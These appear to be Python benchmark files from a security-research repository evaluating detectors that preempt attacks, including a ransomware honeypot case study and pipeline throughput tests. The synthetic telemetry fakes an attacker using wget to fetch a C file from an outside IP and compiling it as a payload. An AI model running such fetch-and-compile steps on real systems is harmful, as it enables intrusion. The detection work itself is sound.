    def _case_study():
        capture = scenario.run_honeypot_capture(start_time=0.0)
        tagger = AttackTagger(trained_parameters, patterns=list(DEFAULT_CATALOGUE))
        replay = ReplayEngine().replay_into_detector(capture.alerts, tagger)
        return capture, replay

    capture, replay = benchmark.pedantic(_case_study, rounds=1, iterations=1)
    sequence = AlertSequence.from_alerts(capture.alerts)
    names = alerts_to_names(capture.alerts)
    detection = replay.detections[0] if replay.detections else None
    preemption = evaluate_preemption(sequence, detection)

    # The production-side incident of the same family, twelve days later.
    production_start = capture.alerts[0].timestamp + TWELVE_DAYS_SECONDS
    production = scenario.run_production_incident(start_time=production_start)
    production_damage = [
        a for a in production.alerts if a.name in ("alert_ransom_note_created",
                                                   "alert_mass_file_encryption")
    ]
    lead_over_production = production_damage[0].timestamp - detection.timestamp

    # Baseline: critical-only detection is always post-damage.
    late = CriticalAlertDetector().run_sequence(sequence, entity="host:late")
    late_result = evaluate_preemption(sequence, late)

    print("\n§V case study: ransomware preemption")
    print(f"  kill-chain alerts observed : {len(names)}")
    print(f"  detection trigger          : {detection.trigger.name} "
          f"(alert #{detection.alert_index + 1}, confidence {detection.confidence:.2f})")
    print(f"  preempted before damage    : {preemption.preempted} "
          f"(lead {preemption.lead_time_seconds / 3600:.1f} h within the honeypot capture)")
    print(f"  lead over production incident: {lead_over_production / 86_400:.1f} days "
          f"(paper: 12 days)")
    print(f"  critical-only baseline     : detected={late_result.detected}, "
          f"preempted={late_result.preempted}")
    print(f"  lateral-movement script    : {len(LATERAL_MOVEMENT_SCRIPT.splitlines())} lines (Fig. 5)")

    # The detection fires during staging/C2, strictly before any damage alert.
    assert detection is not None
    assert preemption.preempted
    assert detection.trigger.name in (
        "alert_db_largeobject_payload", "alert_tmp_executable_created",
        "alert_download_second_stage", "alert_outbound_c2",
        "alert_db_default_password_login", "alert_service_version_probe",
    )
    # Twelve-day early warning relative to the production incident's damage.
    assert lead_over_production >= TWELVE_DAYS_SECONDS * 0.95
    # The critical-only baseline cannot preempt (Insight 4).
    assert late_result.detected and not late_result.preempted
    # Lateral movement actually spread inside the simulated cluster.
    lateral = capture.context.artifacts.get("lateral")
    assert lateral is not None and lateral.blast_radius >= 1
