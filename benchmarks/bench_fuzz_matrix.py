"""Differential-oracle replay throughput over the configuration matrix.

The quick-fuzz CI gate replays 25 seed-pinned campaigns through the
full engine x shards x backend x driver matrix; its wall-clock budget
(~1 minute) only holds if campaign replay stays fast.  This benchmark
records what that budget buys:

* ``campaigns_per_minute`` through the **full** 72-config matrix,
* ``alert_config_rate``: alert-observations per second summed over
  every replayed configuration (each campaign alert is decoded once
  per configuration), the quantity that actually scales with campaign
  size and matrix width.

Run as a script to (re)record ``BENCH_fuzz.json`` at the repo root::

    PYTHONPATH=src python benchmarks/bench_fuzz_matrix.py

CI runs the regression gate, which re-measures a quick version,
asserts the pinned campaigns replay green, and fails on a >4x
throughput regression against the committed baseline::

    PYTHONPATH=src python benchmarks/bench_fuzz_matrix.py --check
"""

from __future__ import annotations

import argparse
import json
import os
import sys
import time
from pathlib import Path

REPO_ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(REPO_ROOT / "src"))

from repro.fuzz import CampaignComposer, DifferentialOracle, full_matrix  # noqa: E402

RESULT_PATH = REPO_ROOT / "BENCH_fuzz.json"

#: Seed-pinned measurement workload.
BASE_SEED = 0
N_CAMPAIGNS = 6
TARGET_ALERTS = 250

#: --check fails below this fraction of the committed alert_config_rate.
REGRESSION_FLOOR = 0.25


def run_measurement(n_campaigns: int) -> dict:
    composer = CampaignComposer(BASE_SEED, target_alerts=TARGET_ALERTS)
    oracle = DifferentialOracle(full_matrix())
    campaigns = list(composer.campaigns(n_campaigns))
    started = time.perf_counter()
    total_alert_configs = 0
    divergent = 0
    for campaign in campaigns:
        verdict = oracle.run(campaign)
        if not verdict.ok:
            divergent += 1
        total_alert_configs += campaign.num_alerts * (verdict.configs_run + 1)
    elapsed = time.perf_counter() - started
    return {
        "campaigns": len(campaigns),
        "total_alerts": sum(c.num_alerts for c in campaigns),
        "divergent": divergent,
        "wall_seconds": round(elapsed, 3),
        "campaigns_per_minute": round(60.0 * len(campaigns) / elapsed, 1),
        "alert_config_rate": round(total_alert_configs / elapsed, 1),
    }


def record() -> dict:
    result = {
        "benchmark": "fuzz_matrix_throughput",
        "units": "alert_observations_per_second_across_configs",
        "notes": (
            "Seed-pinned campaigns replayed through the full 72-config "
            "engine x shards x backend x driver matrix by the "
            "differential oracle. alert_config_rate counts each "
            "campaign alert once per replayed configuration."
        ),
        "cores_available": len(os.sched_getaffinity(0)),
        "matrix_size": len(full_matrix()),
        "workload": {
            "base_seed": BASE_SEED,
            "campaigns": N_CAMPAIGNS,
            "target_alerts": TARGET_ALERTS,
        },
        "measurement": run_measurement(N_CAMPAIGNS),
    }
    RESULT_PATH.write_text(json.dumps(result, indent=2) + "\n")
    print(json.dumps(result, indent=2))
    return result


def check() -> int:
    if not RESULT_PATH.exists():
        print(f"missing baseline {RESULT_PATH}; "
              "run this script without --check to record one")
        return 1
    baseline = json.loads(RESULT_PATH.read_text())
    reference_rate = baseline["measurement"]["alert_config_rate"]
    # At least 3 campaigns so the mixture includes a raw-capable one
    # (raw_every=3): the throughput floor must cover the raw-record
    # replay path, not just the alert drivers.
    measurement = run_measurement(max(3, N_CAMPAIGNS // 2))
    print(json.dumps(measurement, indent=2))
    if measurement["divergent"]:
        print("FAIL: pinned fuzz campaigns diverged across the matrix")
        return 1
    floor = REGRESSION_FLOOR * reference_rate
    if measurement["alert_config_rate"] < floor:
        print(
            f"FAIL: alert_config_rate {measurement['alert_config_rate']:.0f}/s "
            f"below regression floor {floor:.0f}/s "
            f"({REGRESSION_FLOOR:.0%} of committed {reference_rate:.0f}/s)"
        )
        return 1
    print(
        f"OK: {measurement['alert_config_rate']:.0f} alert-configs/s "
        f">= floor {floor:.0f}/s; 0 divergent campaigns"
    )
    return 0


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument(
        "--check",
        action="store_true",
        help="quick regression gate against the committed BENCH_fuzz.json",
    )
    args = parser.parse_args(argv)
    if args.check:
        return check()
    record()
    return 0


if __name__ == "__main__":
    sys.exit(main())
