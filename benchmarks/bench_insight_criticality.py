"""I2 -- Insight 4: critical alerts cannot be used for preemption.

Measures the critical-alert statistics of the corpus (unique types,
occurrences, how late they arrive) and compares the critical-alert-only
detector against the factor-graph model: the baseline detects a subset
of attacks and never preempts, while triaging every alert without
filtering would cost hundreds of analyst-hours per day.
"""

from __future__ import annotations

from repro.analysis import (
    PAPER_CRITICAL_OCCURRENCES,
    PAPER_DAILY_MEAN,
    PAPER_UNIQUE_CRITICAL_ALERTS,
    criticality_study,
    triage_load_without_filtering,
)
from repro.core import AttackTagger, CriticalAlertDetector, EvaluationExample, compare_detectors
from repro.incidents import DEFAULT_CATALOGUE


def test_insight4_critical_alert_statistics(benchmark, corpus, benign_sequences, trained_parameters):
    study = benchmark(lambda: criticality_study(corpus))

    examples = [
        EvaluationExample(incident.sequence, True, incident.incident_id) for incident in corpus
    ] + [
        EvaluationExample(sequence, False, f"benign-{i}")
        for i, sequence in enumerate(benign_sequences[:100])
    ]
    table = compare_detectors(
        {
            "factor_graph": AttackTagger(trained_parameters, patterns=list(DEFAULT_CATALOGUE)),
            "critical_only": CriticalAlertDetector(),
        },
        examples,
    )

    print("\nInsight 4: critical alerts")
    print(f"  unique critical alert types : {study.unique_critical_types} "
          f"(paper: {PAPER_UNIQUE_CRITICAL_ALERTS})")
    print(f"  critical alert occurrences  : {study.total_occurrences} "
          f"(paper: {PAPER_CRITICAL_OCCURRENCES})")
    print(f"  incidents with any critical : {study.incidents_with_critical}/{study.incidents_total}")
    print(f"  mean relative position      : {study.mean_relative_position:.2f} (1.0 = last alert)")
    print(f"  analyst-hours/day to triage every alert: "
          f"{triage_load_without_filtering(PAPER_DAILY_MEAN):.0f}")
    print("  detector comparison:")
    for name, row in table.items():
        print(f"    {name:<14} recall={row['recall']:.2f} preemption={row['preemption_rate']:.2f} "
              f"fpr={row['false_positive_rate']:.2f}")

    # 19 unique critical types; occurrences are rare relative to the corpus.
    assert study.unique_critical_types == PAPER_UNIQUE_CRITICAL_ALERTS
    assert study.total_occurrences < 0.005 * corpus.stats().filtered_alerts
    # Critical alerts arrive in the second half of the attack.
    assert study.mean_relative_position > 0.5
    # The critical-only baseline misses the incidents that never raise one
    # and preempts (essentially) nothing, unlike the factor-graph model.
    assert table["critical_only"]["recall"] <= study.coverage + 0.02
    assert table["critical_only"]["preemption_rate"] <= 0.05
    assert table["factor_graph"]["preemption_rate"] > 0.6
    assert table["factor_graph"]["recall"] > table["critical_only"]["recall"]
    # Full manual triage is impractical (hundreds of analyst-hours per day).
    assert triage_load_without_filtering(PAPER_DAILY_MEAN) > 500
