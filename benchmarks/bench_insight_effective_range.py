"""I1 -- Insight 2: the effective range of a preemption model is 2-4 alerts.

Sweeps the observation-window length (how many alerts of each attack
the detector is allowed to see) and measures recall and preemption rate
at each length.  The paper's argument: one-alert windows cannot
discriminate (sudden attacks), while by the time five or more alerts
have accumulated the attack has typically matured past the damage
point, so a preemption model must operate on two-to-four-alert
sequences.
"""

from __future__ import annotations

from repro.core import AttackTagger, EvaluationExample, window_sweep
from repro.core.preemption import preemptable_window
from repro.incidents import DEFAULT_CATALOGUE


def test_insight2_effective_window_range(benchmark, corpus, benign_sequences, trained_parameters):
    # Evaluate on the *preemptable* prefix of every incident so "recall at
    # window L" means "detected with the first L pre-damage alerts".
    examples = [
        EvaluationExample(preemptable_window(incident.sequence), True, incident.incident_id)
        for incident in corpus
        if len(preemptable_window(incident.sequence)) >= 1
    ]
    examples.extend(
        EvaluationExample(sequence, False, f"benign-{index}")
        for index, sequence in enumerate(benign_sequences[:100])
    )
    window_lengths = [1, 2, 3, 4, 5, 6, 8]

    def _sweep():
        return window_sweep(
            lambda: AttackTagger(trained_parameters, patterns=list(DEFAULT_CATALOGUE)),
            examples,
            window_lengths,
        )

    reports = benchmark.pedantic(_sweep, rounds=1, iterations=1)

    print("\nInsight 2: detection quality vs. observation-window length")
    print("  window  recall  precision  false-positive-rate")
    recalls = {}
    for length in window_lengths:
        summary = reports[length].summary()
        recalls[length] = summary["recall"]
        print(f"  {length:>6}  {summary['recall']:.3f}   {summary['precision']:.3f}      "
              f"{summary['false_positive_rate']:.3f}")

    # One alert is not enough; recall climbs steeply through the 2-4 range
    # and saturates afterwards (the marginal benefit of longer windows is
    # small because those attacks have already matured).
    assert recalls[1] < recalls[4]
    assert recalls[4] - recalls[1] > 0.2
    assert recalls[8] - recalls[4] < 0.15
    assert recalls[4] > 0.7
    # False positives stay controlled across the sweep.
    assert all(reports[length].summary()["false_positive_rate"] <= 0.2 for length in window_lengths)
