"""C1 -- model comparison on the testbed: factor graph vs. baselines.

The testbed exists to evaluate preemption models against replayed
traffic (§IV: rule-based detector, factor-graph detector).  This
benchmark trains on the chronologically earlier 70 % of the corpus and
evaluates every model on the later 30 % plus benign traffic -- the
deployment setting, where models trained on past incidents must catch
present-day attacks.
"""

from __future__ import annotations

from repro.core import (
    AttackTagger,
    CriticalAlertDetector,
    EvaluationExample,
    NaiveBayesDetector,
    RuleBasedDetector,
    compare_detectors,
    label_sequence_from_stages,
    train_from_incidents,
)
from repro.incidents import DEFAULT_CATALOGUE


def test_model_comparison_on_held_out_incidents(benchmark, corpus, benign_sequences):
    train_incidents, test_incidents = corpus.chronological_split(0.7)
    train_benign = benign_sequences[:120]
    test_benign = benign_sequences[120:]

    parameters = train_from_incidents(
        [i.sequence for i in train_incidents],
        train_benign,
        patterns=list(DEFAULT_CATALOGUE),
    )
    naive_bayes = NaiveBayesDetector(detection_log_odds=2.0)
    naive_bayes.fit(
        [label_sequence_from_stages(i.sequence, is_attack=True) for i in train_incidents]
        + [label_sequence_from_stages(s, is_attack=False) for s in train_benign]
    )

    examples = [
        EvaluationExample(i.sequence, True, i.incident_id) for i in test_incidents
    ] + [
        EvaluationExample(s, False, f"benign-{idx}") for idx, s in enumerate(test_benign)
    ]

    detectors = {
        "factor_graph": AttackTagger(parameters, patterns=list(DEFAULT_CATALOGUE)),
        "rule_based": RuleBasedDetector(),
        "naive_bayes": naive_bayes,
        "critical_only": CriticalAlertDetector(),
    }

    table = benchmark.pedantic(
        lambda: compare_detectors(detectors, examples), rounds=1, iterations=1
    )

    print("\nModel comparison (train: 2000-era 70%, test: later 30% + benign)")
    print(f"  {'model':<14} {'recall':>7} {'precision':>10} {'fpr':>6} {'preempt':>8} {'f1':>6}")
    for name, row in table.items():
        print(f"  {name:<14} {row['recall']:>7.3f} {row['precision']:>10.3f} "
              f"{row['false_positive_rate']:>6.3f} {row['preemption_rate']:>8.3f} {row['f1']:>6.3f}")

    fg = table["factor_graph"]
    # The factor-graph model detects nearly everything and preempts most of it.
    assert fg["recall"] > 0.9
    assert fg["preemption_rate"] > 0.6
    assert fg["false_positive_rate"] <= 0.2
    # It preempts far more than the detectors the paper compares against
    # (rule-based and critical-alert triage).  The naive-Bayes bag-of-alerts
    # baseline is this repo's own additional reference point; on sequence-level
    # preemption it is competitive, which we report rather than assert away.
    for baseline in ("rule_based", "critical_only"):
        assert fg["preemption_rate"] >= table[baseline]["preemption_rate"] + 0.3
    assert abs(fg["preemption_rate"] - table["naive_bayes"]["preemption_rate"]) < 0.1
    # The critical-only strawman cannot preempt.
    assert table["critical_only"]["preemption_rate"] <= 0.05
