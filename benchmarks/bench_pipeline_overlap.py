"""End-to-end pipelined vs batch-synchronous pipeline throughput.

The pipeline's overlapped drivers keep up to ``max_inflight`` batches
in flight per shard: while the detection stage's process-backed shard
workers chew batches N..N+d-1, the parent already normalises and
filters batch N+d.  The sub-batch payloads travel over the zero-copy
shared-memory ring transport (``transport="shm"``): the parent writes
each encoded batch in place into a per-shard ring and ships a 24-byte
descriptor, so a deep window never backpressures into the parent the
way pipe-pickled payloads do -- the control channel holds a bounded
number of bytes (its socket buffers), and once a burst of large
pickled sub-batches fills it, the parent's ``send`` blocks until the
worker drains a payload, which it only does between observe calls.

The stream is **bursty**: each batch's records concentrate on one
rotating user segment, segments are aligned to one shard each (the
worst case for a per-batch barrier, which then gets zero fan-out
parallelism), and ``SEGMENT_CLUSTER`` consecutive batches hit the same
segment (per-segment traffic arrives in runs, the regime that piles
successive payloads onto one worker's channel).  The long-run load is
exactly balanced across shards.  A few entities per segment run a
login -> sensitive-download -> compile chain, so the stream produces
real detections whose bit-identity across every configuration is
asserted before anything is recorded.

Per configuration the benchmark records:

* ``wall_seconds`` end to end.  Wall time is bounded by the *cores
  available to this container*: on a single-core host parent prep and
  worker compute time-slice, so the wall speedup is ~1x by
  construction (recorded next to ``cores_available`` so the regimes
  are never conflated -- the same convention as ``BENCH_sharding``).
* Per-batch measurements: parent submit CPU (``time.thread_time``
  around the detection-stage submit -- wall-clock stage timings at
  depth > 1 on a host with fewer cores than shards measure scheduler
  interleaving, not parent work), per-shard worker busy CPU (reported
  with each batch reply, deserialisation included for both
  transports), response-stage seconds, and the exact bytes each
  sub-batch occupies on the pickle control channel.
* A **pipeline-schedule projection**: a discrete-event simulation of
  the depth-``d`` schedule from those measurements -- the parent
  serialises prep + submit, each shard serialises its own busy, at
  most ``d`` batches are in flight, and a pickle submit blocks while
  the shard's channel cannot accept the payload (capacity is the
  measured socket-buffer size of a real control channel; a worker
  drains a payload when it picks it up between batches).  The shm
  ring never blocks the parent (ring capacity is sized to the window;
  fallbacks are counted and asserted zero).  ``projected_speedup`` is
  the batch-synchronous pickle reference's projection divided by the
  configuration's -- a ratio of times measured on the same host, so
  it needs no hardware calibration.
* ``overhead_seconds`` per batch: submit CPU plus that schedule's
  channel stall -- the full per-batch cost of *shipping* a batch into
  the detection tier at the operating depth.  The recorded
  ``overhead_reduction_vs_pickle`` compares transports at the same
  depth: the shm codec costs more parent CPU than C pickle, and wins
  anyway because descriptors never stall.

Run as a script to (re)record ``BENCH_overlap.json`` at the repo
root::

    PYTHONPATH=src python benchmarks/bench_pipeline_overlap.py

CI runs the regression gate, which re-measures a quick version, checks
the deep-pipelined shm driver still produces bit-identical results,
and requires the projected speedup at 4 process shards,
``max_inflight=4``, to stay above the floor::

    PYTHONPATH=src python benchmarks/bench_pipeline_overlap.py --check
"""

from __future__ import annotations

import argparse
import json
import multiprocessing
import os
import pickle
import socket
import sys
import time
from pathlib import Path

REPO_ROOT = Path(__file__).resolve().parent.parent
RESULT_PATH = REPO_ROOT / "BENCH_overlap.json"

if __name__ == "__main__":  # pragma: no cover - script mode import path
    sys.path.insert(0, str(REPO_ROOT / "src"))

from repro.core import AttackTagger
from repro.core.alerts import pack_alert_columns
from repro.incidents import DEFAULT_CATALOGUE
from repro.telemetry import SyslogMonitor
from repro.testbed import TestbedPipeline
from repro.testbed.sharding import shard_of

#: Counter keys that must match exactly between every driver pair.
COUNTER_KEYS = (
    "raw_records",
    "normalized_alerts",
    "filtered_alerts",
    "detections",
    "responses",
)

#: Bench detector window (same reasoning as ``bench_sharded_pipeline``:
#: small enough that sustained traffic slides it).
MAX_WINDOW = 32

#: Consecutive batches per user segment (same shard back to back)
#: inside the stream's burst blocks.  With batches sized so one
#: pickled sub-batch exceeds the control channel's socket buffers,
#: the second submit of a same-shard pair blocks until the shard
#: finishes the first -- the pickle transport loses same-shard
#: overlap entirely, while the shm descriptors keep the window full.
SEGMENT_CLUSTER = 2

#: Batches per stream block.  Even blocks rotate segments round-robin
#: across the shards (steady traffic, full fan-out); odd blocks run
#: each segment as a SEGMENT_CLUSTER-deep burst (the backpressure
#: regime).  Every block touches every shard equally, so the load
#: stays balanced at any multiple of BLOCK_BATCHES.
BLOCK_BATCHES = 8

#: Shard axis the user segments are aligned to.
SEGMENT_SHARDS = 4

#: Per-shard ring size for the benchmark's shm runs: holds a full
#: same-shard cluster of encoded sub-batches with headroom, so the
#: measured runs exercise the ring fast path only (fallbacks are
#: asserted zero).
RING_CAPACITY = 8 * 1024 * 1024


def _shard_users(n_shards: int, per_shard: int) -> list[list[str]]:
    """Usernames bucketed by the shard their alert entity routes to."""
    buckets: list[list[str]] = [[] for _ in range(n_shards)]
    user_id = 0
    while min(len(bucket) for bucket in buckets) < per_shard:
        name = f"user{user_id:04d}"
        buckets[shard_of(f"user:{name}", n_shards)].append(name)
        user_id += 1
    return buckets


def build_raw_batches(
    *,
    n_batches: int,
    records_per_batch: int,
    cluster: int = SEGMENT_CLUSTER,
    users_per_segment: int = 6,
) -> list[list]:
    """Bursty time-ordered syslog batches with shard-aligned segments.

    Each batch draws its records from one user segment, whose users
    all route to one shard, so each batch's detection work lands on a
    single worker.  Segments alternate by ``BLOCK_BATCHES``-sized
    blocks: even blocks rotate round-robin across the shards (steady
    traffic), odd blocks run each segment as a ``cluster``-deep
    same-shard burst (per-segment traffic arriving in runs -- the
    regime that piles successive payloads onto one worker's channel).
    Every block touches every shard equally, so the long-run load is
    exactly balanced (``n_batches`` should be a multiple of
    ``2 * BLOCK_BATCHES``).  Most records are logins from per-record
    distinct source IPs (the scan filter's dedup keeps them) plus
    sensitive downloads; each segment's last user also
    compiles what it downloaded, completing a login -> download ->
    compile chain the detector flags, so the stream yields real
    detections to hold bit-identical across configurations.  Each
    shard also has a dedicated attacker entity (never in any
    rotation) issuing one sensitive-download + compile pair per
    batch; a cluster's worth of pairs completes a detectable chain.
    """
    monitor = SyslogMonitor("internal-host")
    buckets = _shard_users(SEGMENT_SHARDS, users_per_segment * 2 + 1)
    step = 0
    for batch_index in range(n_batches):
        block, pos = divmod(batch_index, BLOCK_BATCHES)
        if block % 2 == 0:
            shard = pos % SEGMENT_SHARDS
        else:
            shard = (block // 2 + pos // cluster) % SEGMENT_SHARDS
        rotation = batch_index // (SEGMENT_SHARDS * cluster)
        bucket = buckets[shard]
        users = [
            bucket[(rotation * users_per_segment + k) % (users_per_segment * 2)]
            for k in range(users_per_segment)
        ]
        # The shard's attacker never appears in any rotation, so its
        # per-entity alert stream is the bare download/compile chain.
        attacker = bucket[users_per_segment * 2]
        for position in range(records_per_batch):
            user = users[step % users_per_segment]
            source_ip = f"10.{step % 251}.{step % 241}.{step % 239}"
            if position >= records_per_batch - 2:
                # The segment's attacker: one download + compile pair
                # per batch, so a segment's cluster completes a chain.
                if position == records_per_batch - 2:
                    monitor.wget_download(
                        float(step), attacker,
                        f"http://64.215.{step % 200}.18/abs.c",
                    )
                else:
                    monitor.command_executed(
                        float(step), attacker, f"gcc -o payload{step} payload.c"
                    )
            elif step % 4 == 0:
                monitor.wget_download(
                    float(step), user, f"http://64.215.{step % 200}.18/abs.c"
                )
            else:
                monitor.sshd_accepted(float(step), user, source_ip)
            step += 1
    records = monitor.records
    return [
        records[start : start + records_per_batch]
        for start in range(0, len(records), records_per_batch)
    ]


def channel_capacity_bytes() -> int:
    """Measured in-flight byte capacity of a worker control channel.

    ``multiprocessing.Pipe(duplex=True)`` is a unix socketpair; the
    bytes a blocked sender can have in flight are bounded by the
    socket buffers.  Summing both directions' buffer sizes gives the
    *upper* bound, which makes the projected pickle stalls
    conservative (a fuller channel would stall sooner).
    """
    parent, child = multiprocessing.Pipe()
    try:
        try:
            sock = socket.socket(fileno=parent.fileno())
        except OSError:
            return 2 * 65536
        try:
            return sock.getsockopt(
                socket.SOL_SOCKET, socket.SO_SNDBUF
            ) + sock.getsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF)
        finally:
            sock.detach()
    finally:
        parent.close()
        child.close()


def make_pipeline(
    *, n_shards: int, transport: str, max_inflight: int
) -> TestbedPipeline:
    return TestbedPipeline(
        detectors={
            "factor_graph": AttackTagger(
                patterns=list(DEFAULT_CATALOGUE), max_window=MAX_WINDOW
            )
        },
        n_shards=n_shards,
        shard_backend="process",
        transport=transport,
        max_inflight=max_inflight,
        ring_capacity=RING_CAPACITY,
    )


def run_driver(
    batches: list[list], *, n_shards: int, transport: str, max_inflight: int
) -> dict:
    """One instrumented run at (transport, depth): the two-phase driver.

    Drives ``submit_raw``/``collect_detections`` with a window of
    ``max_inflight`` batches (the schedule the pipeline's overlapped
    drivers generalise), recording per batch: prep (normalize+filter
    stage walls), submit wall and submit thread-CPU (around the
    detection-stage submit only), per-shard busy (worker CPU reported
    with batch replies), respond seconds, and -- computed after the
    run, off the clock -- the exact pickle-channel payload bytes of
    each sub-batch.
    """
    prep: list[float] = []
    submit_wall: list[float] = []
    submit_cpu: list[float] = []
    busy: list[list[float]] = []
    respond: list[float] = []
    filtered_batches: list[list] = []
    with make_pipeline(
        n_shards=n_shards, transport=transport, max_inflight=max_inflight
    ) as pipeline:
        pool = pipeline.detector_pools["factor_graph"]
        original_submit = pipeline.detection_stage.submit

        def instrumented_submit(filtered):
            filtered_batches.append(list(filtered))
            wall0 = time.perf_counter()
            cpu0 = time.thread_time()
            original_submit(filtered)
            submit_cpu.append(time.thread_time() - cpu0)
            submit_wall.append(time.perf_counter() - wall0)

        pipeline.detection_stage.submit = instrumented_submit
        detections = []
        inflight = 0
        started = time.perf_counter()

        def _collect_one() -> None:
            nonlocal inflight
            stage_before = dict(pipeline.stats.stage_seconds)
            busy_before = list(pool.busy_seconds)
            detections.extend(pipeline.collect_detections())
            stage_after = pipeline.stats.stage_seconds
            busy.append(
                [
                    after - before
                    for after, before in zip(pool.busy_seconds, busy_before)
                ]
            )
            respond.append(
                stage_after.get("respond", 0.0) - stage_before.get("respond", 0.0)
            )
            inflight -= 1

        for batch in batches:
            while inflight >= max_inflight:
                _collect_one()
            stage_before = dict(pipeline.stats.stage_seconds)
            pipeline.submit_raw(batch)
            stage_after = pipeline.stats.stage_seconds
            prep.append(
                (stage_after.get("normalize", 0.0) - stage_before.get("normalize", 0.0))
                + (stage_after.get("filter", 0.0) - stage_before.get("filter", 0.0))
            )
            inflight += 1
        while inflight:
            _collect_one()
        wall = time.perf_counter() - started
        shm_batches, shm_fallbacks = pool.shm_batches, pool.shm_fallbacks
        counters = {key: pipeline.summary()[key] for key in COUNTER_KEYS}
        detection_log = list(pipeline.detections)
    # Off the clock: the bytes each sub-batch would occupy on the
    # pickle control channel (the exact message the pickle transport
    # sends), for the projection's channel model.
    payload_bytes = []
    for filtered in filtered_batches:
        sub_batches: list[list] = [[] for _ in range(n_shards)]
        for alert in filtered:
            sub_batches[shard_of(alert.entity, n_shards)].append(alert)
        payload_bytes.append(
            [
                len(pickle.dumps(("observe", pack_alert_columns(sub))))
                if sub
                else 0
                for sub in sub_batches
            ]
        )
    return {
        "transport": transport,
        "max_inflight": max_inflight,
        "n_shards": n_shards,
        "wall_seconds": wall,
        "prep_seconds": prep,
        "submit_wall_seconds": submit_wall,
        "submit_cpu_seconds": submit_cpu,
        "busy_seconds": busy,
        "respond_seconds": respond,
        "payload_bytes": payload_bytes,
        "shm_batches": shm_batches,
        "shm_fallbacks": shm_fallbacks,
        "detections": detections,
        "detection_log": detection_log,
        "counters": counters,
    }


def simulate_schedule(
    run: dict,
    *,
    depth: int | None = None,
    reference: dict | None = None,
    channel_capacity: int | None = None,
) -> dict:
    """Project the run onto one core per shard plus a parent core.

    Discrete-event simulation of the depth-``d`` schedule: the parent
    serialises prep + submit CPU (and any channel stall) per batch and
    respond after each collect; each shard serialises its own
    per-batch busy seconds; at most ``d`` batches are in flight, FIFO.
    ``depth=1`` is the batch-synchronous schedule.

    Submit CPU, busy, and payload bytes come from the run itself (they
    are what the transport/depth axes vary).  Prep and respond come
    from ``reference`` when given: they are transport- and
    depth-independent parent work over the identical stream, and the
    reference's depth-1 run measures them with idle workers -- a deep
    run's own wall-clock stage timings on a host with fewer cores than
    shards measure worker time-slicing, not parent work.

    Channel model (pickle transport only): a worker drains a payload
    when it picks it up between observe calls; a submit whose payload
    does not fit next to the still-undrained bytes blocks the parent
    until enough pickups have happened.  The shm transport's 24-byte
    descriptors never block (ring fallbacks are recorded separately).

    Returns ``{"makespan": float, "stall_seconds": [per batch]}``.
    """
    source = reference if reference is not None else run
    prep = source["prep_seconds"]
    respond = source["respond_seconds"]
    submit = run["submit_cpu_seconds"]
    busy = run["busy_seconds"]
    payloads = run["payload_bytes"]
    model_channel = run["transport"] == "pickle"
    capacity = channel_capacity or channel_capacity_bytes()
    d = depth if depth is not None else run["max_inflight"]
    n = len(prep)
    n_shards = len(busy[0]) if busy else 0
    shard_free = [0.0] * n_shards
    # Per shard: (pickup_time, payload_bytes) of every sent sub-batch.
    channel: list[list[tuple[float, int]]] = [[] for _ in range(n_shards)]
    completion = [0.0] * n
    stalls = [0.0] * n
    inflight: list[int] = []
    t = 0.0
    for i in range(n):
        while len(inflight) >= d:
            j = inflight.pop(0)
            t = max(t, completion[j]) + respond[j]
        t += prep[i] + submit[i]
        if model_channel:
            for s in range(n_shards):
                nbytes = payloads[i][s]
                if nbytes <= 0:
                    continue
                if nbytes > capacity:
                    # The payload alone overflows the channel: the
                    # parent is stuck until the worker picks it up.
                    blocked_until = max(t, shard_free[s])
                else:
                    blocked_until = t
                    pending = sorted(
                        entry for entry in channel[s] if entry[0] > t
                    )
                    undrained = sum(nb for _, nb in pending)
                    for pickup, nb in pending:
                        if undrained + nbytes <= capacity:
                            break
                        blocked_until = pickup
                        undrained -= nb
                stalls[i] += blocked_until - t
                t = blocked_until
        finish = t
        for s in range(n_shards):
            if busy[i][s] > 0.0:
                start = max(t, shard_free[s])
                shard_free[s] = start + busy[i][s]
                channel[s].append((start, payloads[i][s]))
                finish = max(finish, shard_free[s])
        completion[i] = finish
        inflight.append(i)
    while inflight:
        j = inflight.pop(0)
        t = max(t, completion[j]) + respond[j]
    return {"makespan": t, "stall_seconds": stalls}


def assert_equivalent(reference: dict, run: dict) -> None:
    label = f"{run['transport']}@inflight={run['max_inflight']}"
    assert run["detections"] == reference["detections"], (
        f"{label}: detections must be bit-identical to the "
        "batch-synchronous pickle reference"
    )
    assert run["detection_log"] == reference["detection_log"], (
        f"{label}: detection log diverged from the reference"
    )
    assert run["counters"] == reference["counters"], (
        f"{label}: counters diverged from the reference"
    )


def summarise(
    run: dict, reference: dict, sync_projected: float, capacity: int
) -> dict:
    """One configuration's JSON record, relative to the sync reference."""
    schedule = simulate_schedule(
        run, reference=reference, channel_capacity=capacity
    )
    overhead = [
        cpu + stall
        for cpu, stall in zip(run["submit_cpu_seconds"], schedule["stall_seconds"])
    ]
    run["overhead_seconds"] = overhead
    mean_overhead = sum(overhead) / max(1, len(overhead))
    return {
        "transport": run["transport"],
        "max_inflight": run["max_inflight"],
        "n_shards": run["n_shards"],
        "wall_seconds": round(run["wall_seconds"], 3),
        "wall_speedup": round(reference["wall_seconds"] / run["wall_seconds"], 2),
        "per_batch": {
            "prep_seconds": [round(v, 4) for v in reference["prep_seconds"]],
            "submit_cpu_seconds": [
                round(v, 5) for v in run["submit_cpu_seconds"]
            ],
            "channel_stall_seconds": [
                round(v, 4) for v in schedule["stall_seconds"]
            ],
            "overhead_seconds": [round(v, 4) for v in overhead],
            "max_busy_seconds": [round(max(b), 4) for b in run["busy_seconds"]],
        },
        "mean_overhead_seconds": round(mean_overhead, 5),
        "shm_batches": run["shm_batches"],
        "shm_fallbacks": run["shm_fallbacks"],
        "projected_seconds": round(schedule["makespan"], 3),
        "projected_speedup": round(sync_projected / schedule["makespan"], 2),
    }


def measure_axis(
    batches: list[list], *, n_shards: int, configurations: list[tuple]
) -> dict:
    """Reference + the (transport, depth) axis at one shard count."""
    capacity = channel_capacity_bytes()
    reference = run_driver(
        batches, n_shards=n_shards, transport="pickle", max_inflight=1
    )
    sync_projected = simulate_schedule(
        reference, depth=1, channel_capacity=capacity
    )["makespan"]
    out = {
        "records": sum(len(batch) for batch in batches),
        "batches": len(batches),
        "detections": len(reference["detections"]),
